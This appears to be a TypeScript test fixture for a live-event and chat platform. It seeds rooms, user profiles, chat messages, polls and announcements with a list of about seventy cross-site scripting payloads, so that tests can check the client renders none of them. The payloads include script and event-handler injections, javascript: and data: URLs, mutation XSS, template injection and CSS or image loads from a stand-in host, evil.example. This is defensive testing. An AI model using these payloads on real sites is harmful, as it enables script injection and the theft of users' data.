import type { Live } from "../../client/index.js";
import { allModules, type World } from "./kit.js";

// An attacker's payloads. Each one that executes sets `__xss`, opens a dialog, sends a request to
// another host, or leaves an element behind that `scan` finds.

const run = "window.__xss=1";
/** A host other than the server's. */
export const ELSEWHERE = "evil.example";

export const payloads: readonly string[] = [
  // Tags.
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"></svg>`,
  `<body onload=${run}>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__xss=1"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="//${ELSEWHERE}/x.swf">`,
  `<link rel=stylesheet href="https://${ELSEWHERE}/x.css">`,
  `<base href="https://${ELSEWHERE}/">`,
  `<meta http-equiv="refresh" content="0;url=https://${ELSEWHERE}/">`,
  `<form action="https://${ELSEWHERE}/"><button>x</button></form>`,
  `<details open ontoggle=${run}><summary>x</summary></details>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<img/src="x"/onerror=${run}//`,
  `<<img src=x onerror=${run}>`,
  `<a href="https://${ELSEWHERE}/" onclick="${run}" style="position:fixed;inset:0">x</a>`,
  // Breaking out of an attribute or a script.
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}' x='`,
  `"><img src=x onerror=${run}>`,
  `</textarea><img src=x onerror=${run}>`,
  `</title><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `'"\`--></style></script><svg/onload=${run}>`,
  // URLs.
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>parent.__xss=1</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==`,
  `vbscript:${run}`,
  `//${ELSEWHERE}/x.png`,
  // Markdown.
  `[x](javascript:${run})`,
  `[x](<javascript:${run}>)`,
  `[x](java&#115;cript:${run})`,
  `[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)`,
  `[x]: javascript:${run}\n\n[x]`,
  `![x](https://${ELSEWHERE}/x.png)`,
  `![x](x" onerror="${run})`,
  `![x](javascript:${run} "t\\" onerror=${run}")`,
  `<javascript:${run}>`,
  `<https://${ELSEWHERE}/"onmouseover="${run}>`,
  `https://${ELSEWHERE}/"onmouseover="${run}"`,
  "```html\n<script>" + run + "</script>\n```",
  `\`<img src=x onerror=${run}>\``,
  // Mutation XSS: parsers turn these into different markup.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<math href="javascript:${run}">x</math>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
  `<svg><animate xlink:href=#x attributeName=href values=javascript:${run} /><a id=x><text>x</text></a></svg>`,
  `<img name=cookie><form id=foyer><input name=attributes></form>`,
  // Entities, and characters that reverse the text direction.
  `&lt;img src=x onerror=${run}&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\u202e\u2066<img src=x onerror=${run}>\u2069`,
  // Template syntax of frameworks.
  "{@html '<img src=x onerror=" + run + ">'}",
  "{{constructor.constructor('" + run + "')()}}",
  "${" + run + "}",
  // CSS.
  `red;background:url(https://${ELSEWHERE}/x.png)`,
  `<style>@import "https://${ELSEWHERE}/x.css";*{background:url(https://${ELSEWHERE}/y)}</style>`,
  `<div style="background:url(https://${ELSEWHERE}/x.png);behavior:url(x)">x</div>`,
  `}</style><img src=x onerror=${run}>`,
  // Property names that every object inherits.
  "__proto__",
  "constructor",
];

/** The parts of a hostile world that tests look up. */
export interface Hostile {
  stage: string;
  rooms: { id: string; name: string }[];
  /** Room names that the server accepted. */
  names: string[];
  direct: string;
}

/** The user who views the hostile content. */
export const reader = { uid: "reader", name: "Rita", traits: ["admin", "api"] };

/** Excludes http(s) URLs, which frames may show. */
const addresses = payloads.filter(
  (text) => /^\W*[a-z\t]*:|^\/\//i.test(text) && !/^https?:/.test(text),
);

/** Module configurations that contain a hostile URL or text. */
const configs: [type: string, of: (text: string) => object, texts: readonly string[]][] = [
  ["page.iframe", (url) => ({ url }), addresses],
  ["livestream.iframe", (url) => ({ url }), addresses],
  [
    "livestream.youtube",
    (ytid) => ({ ytid }),
    [`"><img src=x onerror=window.__xss=1>`, `../../${ELSEWHERE}`],
  ],
  [
    "livestream.native",
    (url) => ({ hls_url: url, subtitle_url: url, streamOfflineImage: url }),
    addresses,
  ],
  ["page.markdown", (content) => ({ content }), [payloads.join("\n\n")]],
  ["page.static", (content) => ({ content }), [payloads.join("\n\n")]],
  ["call.native", () => ({}), [payloads[1]!]],
];

/** Fills every field that the pages show with hostile content. */
export async function seedHostileWorld(world: World): Promise<Hostile> {
  const stage = await world.room("Main stage", allModules, { sorting_priority: -2 });
  const rooms: { id: string; name: string }[] = [];
  const names: string[] = [];
  for (const text of payloads) {
    try {
      const modules = [{ type: text, config: { [`key ${text}`]: text } }];
      const id = await world.room(text, modules, { description: text });
      rooms.push({ id, name: text });
      names.push(text);
    } catch (error) {
      // Some payloads are not valid names.
      if (!/^400 name/.test((error as Error).message)) throw error;
    }
  }
  for (const [type, configOf, texts] of configs) {
    for (const text of texts) {
      const modules = [{ type, config: configOf(text) }];
      const name = `Room ${rooms.length}`;
      const id = await world.room(name, modules, { description: text });
      rooms.push({ id, name });
    }
  }
  const boss = await world.live({ ...reader, uid: "boss", name: "Boss" });
  const victim = await world.live(reader);
  const listed = await boss.call("room.config.list");
  for (const [i, { id, module_config }] of listed.entries()) {
    const text = payloads[i % payloads.length]!;
    const picture = text;
    await boss.call("room.config.patch", { room: id, module_config, picture });
    await boss.call("room.schedule", { room: id, schedule_data: { session: text, title: text } });
  }
  await victim.call("chat.join", { channel: stage });

  let direct = "";
  for (const [i, text] of payloads.entries()) {
    const live = await world.live({
      uid: `evil-${i}`,
      name: text,
      traits: ["evil"],
    });
    await enter(live, stage, text);
    if (i === 1) {
      const { id } = await live.call("chat.direct.create", {
        users: [victim.state!.user.id],
        hide: false,
      });
      direct = id;
      for (const body of payloads) await post(live, direct, body);
    }
    live.close();
  }
  for (const text of payloads.slice(0, 3)) {
    await boss.call("announcement.create", { text, state: "active" });
  }
  const questions = await boss.call("question.list", { room: stage });
  // Every other question stays pending.
  for (const { id } of questions.filter((_, i) => i % 2 === 0)) {
    await boss.call("question.update", { room: stage, id, state: "visible" });
  }
  for (const [i, content] of payloads.entries()) {
    await boss.call("poll.create", {
      room: stage,
      content,
      state: (["draft", "open", "closed"] as const)[i % 3]!,
      options: [
        { content, order: 1 },
        { content: `${content} `, order: 2 },
      ],
    });
  }
  const upTo = (length: number) => payloads.filter((it) => it.length <= length).slice(0, 5);
  const kinds = [
    { poll_type: "text", answers: upTo(500), settings: { answers: 5, length: 500 } },
    { poll_type: "words", answers: upTo(40), settings: { answers: 5, length: 40 } },
    { poll_type: "scale", settings: { min_label: upTo(100)[0]!, max_label: upTo(100)[1]! } },
    { poll_type: "rank", options: payloads.slice(0, 20) },
    { poll_type: "quiz", options: payloads.slice(0, 20) },
  ] as const;
  for (const kind of kinds) {
    const { poll_type } = kind;
    const { poll } = await boss.call("poll.create", {
      ...{ room: stage, content: poll_type, poll_type, state: "open" },
      ...("settings" in kind && { settings: kind.settings }),
      ...("options" in kind && {
        options: kind.options.map((content, order) => ({
          ...{ content, order },
          ...(poll_type === "quiz" && { correct: true }),
        })),
      }),
    });
    const { id } = poll;
    if ("answers" in kind) {
      await victim.call("poll.vote", { room: stage, id, answers: [...kind.answers] });
    }
  }
  boss.close();
  victim.close();
  return { stage, rooms, names, direct };
}

async function enter(live: Live, stage: string, text: string): Promise<void> {
  await live.call("user.update", {
    profile: {
      display_name: text,
      avatar: { url: text, identicon: text },
      fields: { [`key ${text}`]: text },
      [`key ${text}`]: text,
    },
    client_state: { [`key ${text}`]: text },
  });
  await live.call("chat.join", { channel: stage });
  await post(live, stage, text);
  await live.call("chat.send", {
    channel: stage,
    event_type: "channel.message",
    content: { type: "files", body: text, files: [{ url: text, name: text, mimeType: text }] },
  });
  await live.call("question.ask", { room: stage, content: text });
}

const post = (live: Live, channel: string, body: string) =>
  live.call("chat.send", {
    channel,
    event_type: "channel.message",
    // Other clients may add the last two fields.
    content: { type: "text", body, client: body, preview_card: { url: body } },
  });
